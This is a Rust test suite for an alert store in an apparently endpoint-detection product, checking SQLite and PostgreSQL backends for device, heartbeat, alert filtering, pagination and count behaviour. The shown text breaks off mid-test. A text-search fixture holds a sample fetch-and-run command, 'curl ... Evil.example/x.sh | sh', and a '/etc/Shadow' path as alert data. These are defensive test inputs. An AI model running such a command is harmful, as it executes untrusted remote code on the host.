//! The `Store` conformance suite: every test runs once against SQLite (in
//! a temporary directory) and once against PostgreSQL (in a fresh schema of
//! the database `PICKET_TEST_POSTGRES_URL` names; skipped with a notice when
//! it is unset, a failure when `CI=true`).

#![expect(
    clippy::panic,
    reason = "the shared test bodies are plain async fns: a failed expectation panics"
)]

use std::collections::HashSet;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;

use picket_store::hunt::{HuntFileState, HuntState, NewHunt, NewHuntFile};
use picket_store::model::{
    AlertFilter, AlertSource, AlertStatus, AlertUpdate, AuditEntry, AuditFilter, Cursor,
    HeartbeatInfo, HeartbeatOutcome, Level, ModuleStatus, NewAlert, NewDevice, Note, Role, Session,
    TokenRefusal,
};
use picket_store::postgres::PgStore;
use picket_store::sqlite::SqliteStore;
use picket_store::{Store, StoreError};
use serde_json::json;

// ---------------------------------------------------------------- harness

enum Raw {
    Sqlite(std::path::PathBuf),
    Pg { url: String, schema: String },
}

struct Harness {
    store: Arc<dyn Store>,
    raw: Raw,
    _dir: Option<tempfile::TempDir>,
}

impl Harness {
    /// Runs raw SQL against the store's database (to plant bad data).
    async fn exec_raw(&self, sql: &str) {
        match &self.raw {
            Raw::Sqlite(path) => {
                let c = rusqlite::Connection::open(path).expect("open raw sqlite");
                c.execute_batch(sql).expect("raw sqlite");
            }
            Raw::Pg { url, schema } => {
                let (client, conn) = tokio_postgres::connect(url, tokio_postgres::NoTls)
                    .await
                    .expect("raw pg connect");
                tokio::spawn(conn);
                client
                    .batch_execute(&format!("SET search_path = {schema}, public; {sql}"))
                    .await
                    .expect("raw pg");
            }
        }
    }
}

impl Drop for Harness {
    fn drop(&mut self) {
        if let Raw::Pg { url, schema } = &self.raw {
            let (url, schema) = (url.clone(), schema.clone());
            // Drop runs inside the test's runtime: clean up on a thread of
            // its own with its own runtime.
            let _ = std::thread::spawn(move || {
                let rt = tokio::runtime::Builder::new_current_thread()
                    .enable_all()
                    .build()
                    .expect("runtime");
                rt.block_on(async {
                    if let Ok((client, conn)) =
                        tokio_postgres::connect(&url, tokio_postgres::NoTls).await
                    {
                        tokio::spawn(conn);
                        let _ = client
                            .batch_execute(&format!("DROP SCHEMA IF EXISTS {schema} CASCADE"))
                            .await;
                    }
                });
            })
            .join();
        }
    }
}

fn sqlite_harness() -> Harness {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("picket.db");
    let store = SqliteStore::open(&path).expect("open sqlite");
    Harness {
        store: Arc::new(store),
        raw: Raw::Sqlite(path),
        _dir: Some(dir),
    }
}

async fn pg_harness(test: &str) -> Option<Harness> {
    let Ok(url) = std::env::var("PICKET_TEST_POSTGRES_URL") else {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "PICKET_TEST_POSTGRES_URL is not set but CI=true: the Postgres conformance \
             tests must run in CI (start postgres and set the URL in .ci/run)"
        );
        eprintln!("notice: PICKET_TEST_POSTGRES_URL unset, skipping postgres::{test}");
        return None;
    };
    static N: AtomicU32 = AtomicU32::new(0);
    let mut schema = format!(
        "picket_t{}_{}_{test}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    );
    schema.truncate(63);
    let store = PgStore::connect_with_schema(&url, &schema)
        .await
        .expect("connect postgres");
    Some(Harness {
        store: Arc::new(store),
        raw: Raw::Pg { url, schema },
        _dir: None,
    })
}

macro_rules! conformance {
    ($($name:ident),* $(,)?) => {
        mod sqlite {
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $name() {
                    let h = super::sqlite_harness();
                    super::$name(&h).await;
                }
            )*
        }
        mod postgres {
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $name() {
                    let Some(h) = super::pg_harness(stringify!($name)).await else { return };
                    super::$name(&h).await;
                }
            )*
        }
    };
}

conformance!(
    devices_lifecycle,
    heartbeat_and_touch,
    heartbeat_replays_change_nothing,
    device_identity_follows_reenrollment,
    insert_dedupes_and_roundtrips,
    pagination_has_no_gaps_or_duplicates,
    filters_match_model,
    technique_parent_matches_children,
    text_search_is_case_insensitive_substring,
    workflow_and_notes,
    alert_counts_by_bucket_and_level,
    alert_count_rollup_equals_scan,
    users,
    sessions_expire,
    tokens_refusals,
    token_use_is_atomic,
    audit_log_filters,
    retention_by_age_and_count,
    stats_and_ping,
    bad_rows_are_errors_not_panics,
    bundles_rollouts_and_device_states,
    agents_by_secret,
    hunts_keep_their_alerts_apart,
);

// ---------------------------------------------------------------- data

fn hex_id(prefix: u8, n: u64) -> String {
    format!("{prefix:02x}{n:030x}")
}

fn device(n: u64) -> NewDevice {
    NewDevice {
        id: hex_id(0xd0, n),
        hostname: format!("host-{n}"),
        public_key: vec![u8::try_from(n % 256).expect("byte"); 32],
        cert_serial: format!("{n:x}"),
        agent_version: "1.2.3".into(),
        enrolled_ms: 1_000 + i64::try_from(n).expect("n"),
    }
}

const LEVELS: [Level; 5] = [
    Level::Informational,
    Level::Low,
    Level::Medium,
    Level::High,
    Level::Critical,
];
const SOURCES: [AlertSource; 4] = [
    AlertSource::Appliance,
    AlertSource::Windows,
    AlertSource::Macos,
    AlertSource::Upload,
];
const TECHNIQUES: [&[&str]; 5] = [
    &["T1059.004"],
    &["T1059"],
    &["T1105", "t1059.001"],
    &[],
    &["T1003.008"],
];

/// A varied alert: `n` picks device, level, rule, techniques, fields.
fn alert(n: u64) -> NewAlert {
    let i = usize::try_from(n).expect("n");
    NewAlert {
        id: hex_id(0xa0, n),
        device_id: hex_id(0xd0, n % 3),
        seq: n + 1,
        // Groups of 4 share a timestamp, so the row tie-break matters.
        timestamp_ms: 1_700_000_000_000 + i64::try_from(n / 4).expect("n") * 1_000,
        received_ms: 1_700_000_100_000 + i64::try_from(n).expect("n"),
        level: LEVELS[i % 5],
        source: SOURCES[i % 4],
        rule_id: format!("rule-{}", n % 7),
        rule_title: format!("Rule {}", n % 7),
        techniques: TECHNIQUES[i % 5].iter().map(|s| (*s).to_owned()).collect(),
        image: (n % 6 != 5).then(|| format!("/usr/bin/Tool{}", n % 5)),
        command_line: (n % 3 != 2).then(|| format!("tool{} --Flag=Value_{n} 50%", n % 5)),
        path: n
            .is_multiple_of(2)
            .then(|| format!("/var/Data/file-{n}.txt")),
        event: json!({"n": n, "nested": {"list": [1, 2, n], "s": "ü"}}),
    }
}

async fn seed(s: &dyn Store, n: u64) -> Vec<NewAlert> {
    for d in 0..3 {
        s.insert_device(device(d)).await.expect("device");
    }
    let alerts: Vec<NewAlert> = (0..n).map(alert).collect();
    for chunk in alerts.chunks(50) {
        s.insert_alerts(chunk).await.expect("insert");
    }
    alerts
}

async fn all_pages(s: &dyn Store, f: &AlertFilter, limit: u32) -> Vec<String> {
    let mut ids = Vec::new();
    let mut after = None;
    for _ in 0..10_000 {
        let page = s.alerts(f, after, limit).await.expect("alerts");
        assert!(page.alerts.len() <= limit as usize);
        ids.extend(page.alerts.into_iter().map(|a| a.alert.id));
        match page.next {
            Some(c) => after = Some(c),
            None => return ids,
        }
    }
    panic!("pagination did not end");
}

/// What the filter should return, in list order (newest first, then the
/// later-inserted first), from the inserted alerts and their statuses.
fn model(
    alerts: &[NewAlert],
    status: &dyn Fn(&str) -> AlertStatus,
    f: &AlertFilter,
) -> Vec<String> {
    let mut hits: Vec<(i64, usize, &NewAlert)> = alerts
        .iter()
        .enumerate()
        .filter(|(_, a)| {
            f.device_id.as_ref().is_none_or(|d| &a.device_id == d)
                && f.min_level.is_none_or(|l| a.level >= l)
                && f.rule_id.as_ref().is_none_or(|r| &a.rule_id == r)
                && f.technique.as_ref().is_none_or(|t| {
                    let t = t.to_ascii_uppercase();
                    a.techniques.iter().any(|x| {
                        let x = x.to_ascii_uppercase();
                        x == t || x.starts_with(&format!("{t}."))
                    })
                })
                && f.status.is_none_or(|s| status(&a.id) == s)
                && f.source.is_none_or(|s| a.source == s)
                && f.since_ms.is_none_or(|s| a.timestamp_ms >= s)
                && f.until_ms.is_none_or(|u| a.timestamp_ms < u)
                && f.text.as_ref().filter(|t| !t.is_empty()).is_none_or(|t| {
                    let t = t.to_lowercase();
                    [&a.image, &a.command_line, &a.path]
                        .iter()
                        .any(|v| v.as_ref().is_some_and(|v| v.to_lowercase().contains(&t)))
                })
        })
        .map(|(i, a)| (a.timestamp_ms, i, a))
        .collect();
    hits.sort_by_key(|h| std::cmp::Reverse((h.0, h.1)));
    hits.into_iter().map(|(_, _, a)| a.id.clone()).collect()
}

// ---------------------------------------------------------------- tests

async fn devices_lifecycle(h: &Harness) {
    let s = &*h.store;
    let d = s.insert_device(device(2)).await.expect("insert");
    assert_eq!(d.id, device(2).id);
    assert_eq!(d.revoked_ms, None);
    assert_eq!(d.last_alert_seq, 0);
    s.insert_device(device(1)).await.expect("insert");
    match s.insert_device(device(2)).await {
        Err(StoreError::Conflict { what: "device", id }) => assert_eq!(id, device(2).id),
        other => panic!("expected conflict, got {other:?}"),
    }
    assert_eq!(s.device(&device(2).id).await.expect("get"), Some(d.clone()));
    assert_eq!(s.device(&hex_id(0xee, 1)).await.expect("get"), None);
    let all = s.devices().await.expect("devices");
    assert_eq!(
        all.iter().map(|d| d.id.clone()).collect::<Vec<_>>(),
        vec![device(1).id, device(2).id]
    );
    let r = s.revoke_device(&d.id, 5_000).await.expect("revoke");
    assert_eq!(r.revoked_ms, Some(5_000));
    let r = s.revoke_device(&d.id, 9_000).await.expect("revoke again");
    assert_eq!(r.revoked_ms, Some(5_000), "revocation keeps the first time");
    assert!(matches!(
        s.revoke_device("nope", 1).await,
        Err(StoreError::NotFound { what: "device", .. })
    ));
}

fn heartbeat(received_ms: i64) -> HeartbeatInfo {
    HeartbeatInfo {
        seq: 7,
        sent_at_ms: 5_000,
        received_ms,
        uptime_secs: 3_600,
        agent_version: "1.2.4".into(),
        rule_bundle_version: Some(12),
        spool_depth: 3,
        spool_bytes: 4_096,
        spool_evictions_total: 0,
        lost_kernel_records_total: 2,
        modules: vec![ModuleStatus {
            name: "process".into(),
            state: "running".into(),
            error: None,
        }],
        cpu_permille: 35,
        rss_bytes: 12 << 20,
    }
}

async fn heartbeat_and_touch(h: &Harness) {
    let s = &*h.store;
    let id = s.insert_device(device(0)).await.expect("insert").id;
    s.record_heartbeat(&id, heartbeat(10_000))
        .await
        .expect("hb");
    let d = s.device(&id).await.expect("get").expect("exists");
    assert_eq!(d.heartbeat, Some(heartbeat(10_000)));
    assert_eq!(d.last_seen_ms, Some(10_000));
    s.touch_device(&id, 20_000).await.expect("touch");
    assert_eq!(
        s.device(&id)
            .await
            .expect("get")
            .expect("exists")
            .last_seen_ms,
        Some(20_000)
    );
    // last_seen_ms never goes back (a late heartbeat after an alert batch).
    s.touch_device(&id, 15_000).await.expect("touch");
    assert_eq!(
        s.device(&id)
            .await
            .expect("get")
            .expect("exists")
            .last_seen_ms,
        Some(20_000)
    );
    assert!(matches!(
        s.touch_device("nope", 1).await,
        Err(StoreError::NotFound { what: "device", .. })
    ));
    assert!(matches!(
        s.record_heartbeat("nope", heartbeat(1)).await,
        Err(StoreError::NotFound { what: "device", .. })
    ));
}

async fn device_identity_follows_reenrollment(h: &Harness) {
    let s = &*h.store;
    let d = s.insert_device(device(1)).await.expect("insert");
    let updated = s
        .set_device_identity(&d.id, &[9; 32], "00c0ffee")
        .await
        .expect("set identity");
    assert_eq!(
        (updated.public_key.as_slice(), updated.cert_serial.as_str()),
        (&[9u8; 32][..], "00c0ffee")
    );
    assert_eq!(s.device(&d.id).await.expect("get"), Some(updated.clone()));
    // Revocation then names the current certificate.
    let revoked = s.revoke_device(&d.id, 5).await.expect("revoke");
    assert_eq!(revoked.cert_serial, "00c0ffee");
    // A revoked device keeps the identity it was revoked with.
    let after = s
        .set_device_identity(&d.id, &[7; 32], "0bad")
        .await
        .expect("set identity");
    assert_eq!(after, revoked);
    assert!(matches!(
        s.set_device_identity("nope", &[1; 32], "01").await,
        Err(StoreError::NotFound { what: "device", .. })
    ));
}

async fn heartbeat_replays_change_nothing(h: &Harness) {
    let s = &*h.store;
    let id = s.insert_device(device(0)).await.expect("insert").id;
    let hb = |seq: u64, sent_at_ms: i64, received_ms: i64, uptime_secs: u64| HeartbeatInfo {
        seq,
        sent_at_ms,
        received_ms,
        uptime_secs,
        ..heartbeat(0)
    };
    let id = &id;
    let record = |h: HeartbeatInfo| async move { s.record_heartbeat(id, h).await.expect("hb") };
    assert_eq!(
        record(hb(7, 5_000, 10_000, 3_600)).await,
        HeartbeatOutcome::Recorded
    );
    let before = s.device(id).await.expect("get").expect("exists");
    for (what, replay) in [
        ("the same again", hb(7, 5_000, 40_000, 3_600)),
        ("an older one of the run", hb(6, 4_000, 40_000, 3_570)),
        ("seq up, uptime back", hb(8, 4_000, 40_000, 3_500)),
        (
            "uptime ahead of the clock",
            hb(8, 4_000, 40_000, 3_600 + 200),
        ),
        ("hostile uptime", hb(9, 0, 40_000, u64::MAX)),
    ] {
        match record(replay).await {
            HeartbeatOutcome::Stale(last) => {
                assert_eq!(*last, hb(7, 5_000, 10_000, 3_600), "{what}");
            }
            HeartbeatOutcome::Recorded => panic!("{what}: recorded"),
        }
        assert_eq!(
            s.device(id).await.expect("get").expect("exists"),
            before,
            "{what}"
        );
    }
    // Later in the run: stored, even when the device clock went back.
    assert_eq!(
        record(hb(8, 1_000, 40_000, 3_630)).await,
        HeartbeatOutcome::Recorded
    );
    // A restart (seq and uptime again from the start) with a later clock.
    assert_eq!(
        record(hb(1, 9_000, 70_000, 3)).await,
        HeartbeatOutcome::Recorded
    );
    // The earlier run's heartbeats, replayed: refused.
    for old in [hb(8, 1_000, 100_000, 3_630), hb(9, 4_500, 100_000, 3_660)] {
        assert!(matches!(record(old).await, HeartbeatOutcome::Stale(_)));
    }
    let d = s.device(id).await.expect("get").expect("exists");
    assert_eq!(
        d.heartbeat.map(|h| (h.seq, h.received_ms)),
        Some((1, 70_000))
    );
    assert_eq!(d.last_seen_ms, Some(70_000));
}

async fn insert_dedupes_and_roundtrips(h: &Harness) {
    let s = &*h.store;
    for d in 0..3 {
        s.insert_device(device(d)).await.expect("device");
    }
    assert_eq!(
        s.insert_alerts(&[]).await.expect("empty"),
        Default::default()
    );
    let batch: Vec<NewAlert> = (0..10).map(alert).collect();
    let r = s.insert_alerts(&batch).await.expect("insert");
    assert_eq!((r.inserted, r.duplicates), (10, 0));
    // A redelivery overlapping the first batch, with a duplicate inside.
    let mut again: Vec<NewAlert> = (5..15).map(alert).collect();
    again.push(alert(14));
    let r = s.insert_alerts(&again).await.expect("insert");
    assert_eq!((r.inserted, r.duplicates), (5, 6));
    assert_eq!(s.stats().await.expect("stats").alerts, 15);
    for n in [0, 3, 5, 11] {
        let a = s.alert(&alert(n).id).await.expect("get").expect("exists");
        assert_eq!(a.alert, alert(n), "alert {n} round-trips");
        assert_eq!(a.status, AlertStatus::New);
        assert_eq!(a.assignee, None);
        assert_eq!(a.updated_ms, alert(n).received_ms);
    }
    assert_eq!(s.alert(&hex_id(0xa0, 999)).await.expect("get"), None);
    // Each device's last_alert_seq is its highest seq (seq = n + 1).
    for d in 0..3u64 {
        let want = (0..15).filter(|n| n % 3 == d).max().expect("some") + 1;
        let got = s.device(&device(d).id).await.expect("get").expect("exists");
        assert_eq!(got.last_alert_seq, want, "device {d}");
    }
    // Older seqs never lower it.
    let mut old = alert(100);
    old.device_id = device(0).id;
    old.seq = 1;
    s.insert_alerts(&[old]).await.expect("insert");
    assert_eq!(
        s.device(&device(0).id)
            .await
            .expect("get")
            .expect("exists")
            .last_alert_seq,
        13
    );
    // Alerts of unknown devices are kept (no foreign key).
    let mut stray = alert(200);
    stray.device_id = hex_id(0xee, 1);
    assert_eq!(
        s.insert_alerts(&[stray.clone()])
            .await
            .expect("insert")
            .inserted,
        1
    );
    assert!(s.alert(&stray.id).await.expect("get").is_some());
}

async fn pagination_has_no_gaps_or_duplicates(h: &Harness) {
    let s = &*h.store;
    let alerts = seed(s, 103).await;
    let expected = model(&alerts, &|_| AlertStatus::New, &AlertFilter::default());
    for limit in [1, 7, 50, 103, 500] {
        let got = all_pages(s, &AlertFilter::default(), limit).await;
        assert_eq!(got, expected, "limit {limit}");
    }
    let first = s
        .alerts(&AlertFilter::default(), None, 103)
        .await
        .expect("page");
    assert_eq!(
        first.next, None,
        "an exactly full last page has no next cursor"
    );
    let empty = s
        .alerts(&AlertFilter::default(), None, 0)
        .await
        .expect("page");
    assert!(empty.alerts.is_empty());
    // A cursor survives encoding.
    let p = s
        .alerts(&AlertFilter::default(), None, 10)
        .await
        .expect("page");
    let c = Cursor::decode(&p.next.expect("next").encode()).expect("decode");
    let p2 = s
        .alerts(&AlertFilter::default(), Some(c), 10)
        .await
        .expect("page");
    assert_eq!(p2.alerts[0].alert.id, expected[10]);
}

async fn filters_match_model(h: &Harness) {
    let s = &*h.store;
    let alerts = seed(s, 120).await;
    // Some workflow state to filter on.
    let acked: HashSet<String> = (0..120).step_by(9).map(|n| alert(n).id).collect();
    for id in &acked {
        s.update_alert(
            id,
            &AlertUpdate {
                status: Some(AlertStatus::Acknowledged),
                assignee: None,
            },
            1,
        )
        .await
        .expect("update");
    }
    let status = |id: &str| {
        if acked.contains(id) {
            AlertStatus::Acknowledged
        } else {
            AlertStatus::New
        }
    };
    let t0 = 1_700_000_000_000;
    let filters = vec![
        AlertFilter::default(),
        AlertFilter {
            device_id: Some(hex_id(0xd0, 1)),
            ..Default::default()
        },
        AlertFilter {
            min_level: Some(Level::Informational),
            ..Default::default()
        },
        AlertFilter {
            min_level: Some(Level::Medium),
            ..Default::default()
        },
        AlertFilter {
            min_level: Some(Level::High),
            ..Default::default()
        },
        AlertFilter {
            min_level: Some(Level::Critical),
            ..Default::default()
        },
        AlertFilter {
            rule_id: Some("rule-3".into()),
            ..Default::default()
        },
        AlertFilter {
            rule_id: Some("rule-none".into()),
            ..Default::default()
        },
        AlertFilter {
            technique: Some("T1059".into()),
            ..Default::default()
        },
        AlertFilter {
            technique: Some("t1059.004".into()),
            ..Default::default()
        },
        AlertFilter {
            technique: Some("T1003".into()),
            ..Default::default()
        },
        AlertFilter {
            technique: Some("T105".into()),
            ..Default::default()
        },
        AlertFilter {
            status: Some(AlertStatus::Acknowledged),
            ..Default::default()
        },
        AlertFilter {
            status: Some(AlertStatus::New),
            ..Default::default()
        },
        AlertFilter {
            status: Some(AlertStatus::Resolved),
            ..Default::default()
        },
        AlertFilter {
            source: Some(AlertSource::Macos),
            ..Default::default()
        },
        AlertFilter {
            since_ms: Some(t0 + 10_000),
            ..Default::default()
        },
        AlertFilter {
            until_ms: Some(t0 + 10_000),
            ..Default::default()
        },
        AlertFilter {
            since_ms: Some(t0 + 5_000),
            until_ms: Some(t0 + 9_000),
            ..Default::default()
        },
        AlertFilter {
            text: Some("tool3".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some("FLAG=value_1".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some("data/FILE-10".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some("ol".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some("50%".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some("e_1".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some("nothing-like-this".into()),
            ..Default::default()
        },
        AlertFilter {
            text: Some(String::new()),
            ..Default::default()
        },
        AlertFilter {
            device_id: Some(hex_id(0xd0, 2)),
            min_level: Some(Level::Medium),
            technique: Some("T1059".into()),
            ..Default::default()
        },
        AlertFilter {
            min_level: Some(Level::Low),
            status: Some(AlertStatus::New),
            source: Some(AlertSource::Appliance),
            text: Some("TOOL".into()),
            since_ms: Some(t0 + 3_000),
            ..Default::default()
        },
        AlertFilter {
            rule_id: Some("rule-1".into()),
            technique: Some("T1105".into()),
            until_ms: Some(t0 + 20_000),
            ..Default::default()
        },
    ];
    for f in &filters {
        let want = model(&alerts, &status, f);
        for limit in [4, 1000] {
            let got = all_pages(s, f, limit).await;
            assert_eq!(got, want, "filter {f:?}, limit {limit}");
        }
    }
}

async fn technique_parent_matches_children(h: &Harness) {
    let s = &*h.store;
    let mk = |n: u64, t: &[&str]| NewAlert {
        techniques: t.iter().map(|s| (*s).to_owned()).collect(),
        ..alert(n)
    };
    let batch = vec![
        mk(0, &["T1059"]),
        mk(1, &["T1059.004"]),
        mk(2, &["T1059", "T1059.004"]),
        mk(3, &["T10590"]),
        mk(4, &["T1105"]),
    ];
    s.insert_alerts(&batch).await.expect("insert");
    let ids = |f: &str| {
        let f = AlertFilter {
            technique: Some(f.into()),
            ..Default::default()
        };
        async move {
            let mut v = all_pages(s, &f, 10).await;
            v.sort();
            v
        }
    };
    let want = |ns: &[u64]| ns.iter().map(|n| alert(*n).id).collect::<Vec<_>>();
    assert_eq!(
        ids("T1059").await,
        want(&[0, 1, 2]),
        "parent matches subs, once each"
    );
    assert_eq!(ids("T1059.004").await, want(&[1, 2]));
    assert_eq!(ids("T1059.001").await, want(&[]));
    assert_eq!(ids("T10590").await, want(&[3]));
    assert_eq!(ids("T105").await, want(&[]), "no bare prefix match");
}

async fn text_search_is_case_insensitive_substring(h: &Harness) {
    let s = &*h.store;
    let mk = |n: u64, image: Option<&str>, cmd: Option<&str>, path: Option<&str>| NewAlert {
        image: image.map(str::to_owned),
        command_line: cmd.map(str::to_owned),
        path: path.map(str::to_owned),
        ..alert(n)
    };
    s.insert_alerts(&[
        mk(
            0,
            Some("/usr/bin/CURL"),
            Some("curl -sS http://Evil.example/x.sh | sh"),
            None,
        ),
        mk(1, None, None, Some("/etc/Shadow")),
        mk(
            2,
            Some("/bin/bash"),
            Some("bash -c \"echo 'quoted' \""),
            Some("/tmp/a_b%c"),
        ),
        mk(3, None, None, None),
    ])
    .await
    .expect("insert");
    let ids = |t: &str| {
        let f = AlertFilter {
            text: Some(t.into()),
            ..Default::default()
        };
        async move {
            let mut v = all_pages(s, &f, 10).await;
            v.sort();
            v
        }
    };
    let want = |ns: &[u64]| ns.iter().map(|n| alert(*n).id).collect::<Vec<_>>();
    assert_eq!(ids("evil.EXAMPLE").await, want(&[0]));
    assert_eq!(
        ids("curl").await,
        want(&[0]),
        "image and command line, one hit"
    );
    assert_eq!(ids("SHADOW").await, want(&[1]));
    assert_eq!(ids("sh").await, want(&[0, 1, 2]), "short needles too");
    assert_eq!(
        ids("\"echo 'quoted'").await,
        want(&[2]),
        "quotes are literal"
    );
    assert_eq!(ids("a_b%c").await, want(&[2]), "wildcards are literal");
    assert_eq!(ids("a%b").await, want(&[]));
    assert_eq!(ids("%").await, want(&[2]));
    assert_eq!(ids("x.sh | sh").await, want(&[0]));
}

async fn workflow_and_notes(h: &Harness) {
    let s = &*h.store;
    seed(s, 5).await;
    let id = alert(2).id;
    let a = s
        .update_alert(
            &id,
            &AlertUpdate {
                status: Some(AlertStatus::Acknowledged),
                assignee: Some(Some("alice".into())),
            },
            50,
        )
        .await
        .expect("update");
    assert_eq!(
        (a.status, a.assignee.as_deref(), a.updated_ms),
        (AlertStatus::Acknowledged, Some("alice"), 50)
    );
    // None keeps; Some(None) unassigns.
    let a = s
        .update_alert(
            &id,
            &AlertUpdate {
                status: None,
                assignee: None,
            },
            60,
        )
        .await
        .expect("update");
    assert_eq!(
        (a.status, a.assignee.as_deref(), a.updated_ms),
        (AlertStatus::Acknowledged, Some("alice"), 60)
    );
    let a = s
        .update_alert(
            &id,
            &AlertUpdate {
                status: Some(AlertStatus::Resolved),
                assignee: Some(None),
            },
            70,
        )
        .await
        .expect("update");
    assert_eq!(
        (a.status, a.assignee.as_deref(), a.updated_ms),
        (AlertStatus::Resolved, None, 70)
    );
    assert_eq!(s.alert(&id).await.expect("get").expect("exists"), a);
    assert!(matches!(
        s.update_alert(&"ff".repeat(16), &AlertUpdate::default(), 1)
            .await,
        Err(StoreError::NotFound { what: "alert", .. })
    ));

    let n1 = Note {
        author: "bob".into(),
        at_ms: 200,
        text: "looks bad".into(),
    };
    let n2 = Note {
        author: "alice".into(),
        at_ms: 100,
        text: "first 'quote' \"x\"".into(),
    };
    let n3 = Note {
        author: "carol".into(),
        at_ms: 200,
        text: "same time, later".into(),
    };
    for n in [&n1, &n2, &n3] {
        s.add_note(&id, n).await.expect("note");
    }
    assert_eq!(s.notes(&id).await.expect("notes"), vec![n2, n1, n3]);
    assert_eq!(s.notes(&alert(1).id).await.expect("notes"), vec![]);
    assert!(matches!(
        s.add_note(
            &"ff".repeat(16),
            &Note {
                author: "x".into(),
                at_ms: 1,
                text: "x".into()
            }
        )
        .await,
        Err(StoreError::NotFound { what: "alert", .. })
    ));
}

async fn alert_counts_by_bucket_and_level(h: &Harness) {
    let s = &*h.store;
    let mk = |n: u64, ts: i64, level: Level| NewAlert {
        timestamp_ms: ts,
        level,
        ..alert(n)
    };
    s.insert_alerts(&[
        mk(0, 0, Level::High),
        mk(1, 999, Level::High),
        mk(2, 1_000, Level::High),
        mk(3, 1_500, Level::Low),
        mk(4, -1, Level::Low),
        mk(5, 5_000, Level::Critical),
    ])
    .await
    .expect("insert");
    let counts = s
        .alert_counts(&AlertFilter::default(), 1_000)
        .await
        .expect("counts");
    let got: Vec<(i64, Level, u64)> = counts
        .iter()
        .map(|c| (c.start_ms, c.level, c.count))
        .collect();
    assert_eq!(
        got,
        vec![
            (-1_000, Level::Low, 1),
            (0, Level::High, 2),
            (1_000, Level::Low, 1),
            (1_000, Level::High, 1),
            (5_000, Level::Critical, 1),
        ]
    );
    let f = AlertFilter {
        min_level: Some(Level::High),
        since_ms: Some(500),
        ..Default::default()
    };
    let counts = s.alert_counts(&f, 10_000).await.expect("counts");
    let got: Vec<(i64, Level, u64)> = counts
        .iter()
        .map(|c| (c.start_ms, c.level, c.count))
        .collect();
    assert_eq!(got, vec![(0, Level::High, 2), (0, Level::Critical, 1)]);
    assert!(matches!(
        s.alert_counts(&AlertFilter::default(), 0).await,
        Err(StoreError::Backend(m)) if m.contains("alert_counts")
    ));
}

/// `alert_counts(f, bucket)` by a scan: 1 s buckets are never answered
/// from the rollup (not a whole number of minutes), folded into `bucket`.
async fn counts_by_scan(s: &dyn Store, f: &AlertFilter, bucket: i64) -> Vec<(i64, Level, u64)> {
    let mut sums = std::collections::BTreeMap::new();
    for c in s.alert_counts(f, 1_000).await.expect("scan counts") {
        *sums
            .entry((c.start_ms.div_euclid(bucket) * bucket, c.level))
            .or_insert(0) += c.count;
    }
    sums.into_iter().map(|((b, l), n)| (b, l, n)).collect()
}

/// Every filter and range the rollup answers gives the scan's answer.
async fn assert_rollup_matches_scan(s: &dyn Store, phase: &str) {
    const H: i64 = 3_600_000;
    const M: i64 = 60_000;
    let t = COUNT_T0;
    let sinces = [
        None,
        Some(t + H),
        Some(t + H + 1),
        Some(t + H + M),
        Some(t + 2 * H - 1),
        Some(-H - 1),
    ];
    let untils = [
        None,
        Some(t + 3 * H),
        Some(t + 3 * H + 1),
        Some(t + 4 * H - M - 1),
        Some(t + 5 * H + M + 5),
        Some(0),
    ];
    let filters = [
        AlertFilter::default(),
        AlertFilter {
            min_level: Some(Level::High),
            ..Default::default()
        },
        AlertFilter {
            status: Some(AlertStatus::New),
            ..Default::default()
        },
        AlertFilter {
            status: Some(AlertStatus::Acknowledged),
            ..Default::default()
        },
        AlertFilter {
            source: Some(AlertSource::Windows),
            ..Default::default()
        },
        AlertFilter {
            min_level: Some(Level::Medium),
            status: Some(AlertStatus::New),
            source: Some(AlertSource::Appliance),
            ..Default::default()
        },
    ];
    let buckets = [M, 5 * M, H, 6 * H, 31 * 86_400_000];
    for since_ms in sinces {
        for until_ms in untils {
            for base in &filters {
                let f = AlertFilter {
                    since_ms,
                    until_ms,
                    ..base.clone()
                };
                for bucket in buckets {
                    let got: Vec<(i64, Level, u64)> = s
                        .alert_counts(&f, bucket)
                        .await
                        .expect("counts")
                        .iter()
                        .map(|c| (c.start_ms, c.level, c.count))
                        .collect();
                    assert_eq!(
                        got,
                        counts_by_scan(s, &f, bucket).await,
                        "{phase}: {f:?} per {bucket} ms"
                    );
                }
            }
        }
    }
}

/// An hour boundary.
const COUNT_T0: i64 = 1_699_999_200_000;

async fn alert_count_rollup_equals_scan(h: &Harness) {
    const H: i64 = 3_600_000;
    let s = &*h.store;
    // Alerts every ~97 s over 8 hours, and some on and next to hour and
    // minute edges, and before 1970.
    let mut stamps: Vec<i64> = (0..300).map(|i| COUNT_T0 + i * 97_003).collect();
    for k in 0..5 {
        for d in [-1, 0, 1, 59_999, 60_000] {
            stamps.push(COUNT_T0 + k * H + d);
        }
    }
    stamps.extend([-1, 0, -H, -H - 1]);
    let alerts: Vec<NewAlert> = stamps
        .iter()
        .enumerate()
        .map(|(n, ts)| NewAlert {
            timestamp_ms: *ts,
            ..alert(u64::try_from(n).expect("n"))
        })
        .collect();
    for chunk in alerts.chunks(37) {
        s.insert_alerts(chunk).await.expect("insert");
    }
    // Redeliveries are not counted twice.
    let again = s.insert_alerts(&alerts[..50]).await.expect("insert");
    assert_eq!((again.inserted, again.duplicates), (0, 50));
    assert_rollup_matches_scan(s, "after insert").await;
    let total: u64 = s
        .alert_counts(&AlertFilter::default(), H)
        .await
        .expect("counts")
        .iter()
        .map(|c| c.count)
        .sum();
    assert_eq!(total, alerts.len() as u64);

    // Triage moves alerts between statuses; an assignee alone or the same
    // status again changes no count.
    for (n, a) in alerts.iter().enumerate() {
        let status = match n % 7 {
            0 | 3 => Some(AlertStatus::Acknowledged),
            5 => Some(AlertStatus::Resolved),
            6 => Some(AlertStatus::New),
            _ => None,
        };
        let u = AlertUpdate {
            status,
            assignee: Some(Some("ann".into())),
        };
        s.update_alert(&a.id, &u, 1).await.expect("update");
    }
    for a in alerts.iter().step_by(3) {
        let u = AlertUpdate {
            status: Some(AlertStatus::Resolved),
            assignee: None,
        };
